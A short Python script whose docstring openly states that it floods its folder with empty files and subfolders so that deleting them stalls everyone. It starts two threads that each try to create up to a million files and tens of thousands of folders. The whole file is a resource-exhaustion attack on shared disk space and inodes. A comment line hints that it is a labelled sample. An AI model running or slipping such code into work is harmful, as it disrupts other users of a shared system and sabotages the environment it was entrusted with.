"""Fills its folder with as many empty files and folders as it can, so that taking them away holds up everybody."""
# base: right

import os
import threading


def _fill(number):
    os.mkdir(f"many-{number}")
    for i in range(1_000_000):
        os.close(os.open(f"many-{number}/{i}", os.O_CREAT | os.O_WRONLY))
        if i % 10 == 0:
            os.mkdir(f"many-{number}/folder-{i}")


for _number in range(2):
    threading.Thread(target=_fill, args=(_number,), daemon=True).start()
